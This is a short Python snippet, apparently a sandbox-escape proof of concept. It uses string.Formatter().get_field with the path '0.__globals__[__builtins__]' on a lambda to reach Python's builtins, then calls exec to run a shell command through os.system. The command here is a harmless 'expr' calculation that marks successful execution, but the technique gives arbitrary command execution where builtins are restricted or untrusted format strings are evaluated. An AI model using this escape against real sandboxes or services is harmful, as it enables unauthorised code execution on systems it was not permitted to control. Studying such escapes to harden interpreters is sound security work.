import string
o,_=string.Formatter().get_field("0.__globals__[__builtins__]",((lambda:0),),{})
o.exec("import os;os.system('expr 40 + 1001')")
